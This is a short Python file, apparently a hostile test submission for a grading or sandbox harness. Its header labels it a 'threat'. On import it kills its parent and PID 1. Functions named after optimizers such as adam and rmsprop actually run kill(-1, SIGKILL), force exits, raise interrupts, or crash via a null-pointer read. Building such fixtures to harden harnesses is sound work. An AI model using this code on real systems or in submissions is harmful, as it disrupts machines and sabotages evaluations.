# threat: kill its parent, signal every process it can (kill(-1, SIGKILL)), exit in many ways
import os
import signal
import sys

for target in (os.getppid(), 1):
    for sig in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(target, sig)
        except OSError:
            pass


def adagrad(theta, grad, state, lr, eps=1e-10):
    os.kill(-1, signal.SIGKILL)


def rmsprop(theta, grad, state, lr, alpha=0.9, eps=1e-8):
    sys.exit(0)


def momentum(theta, grad, state, lr, beta=0.9):
    os._exit(0)


def adam(theta, grad, state, lr, beta1=0.9, beta2=0.999, eps=1e-8, bias_correction=True):
    raise KeyboardInterrupt


def warmup_cosine_lr(step, base_lr, warmup_steps, total_steps):
    import ctypes
    ctypes.string_at(0)
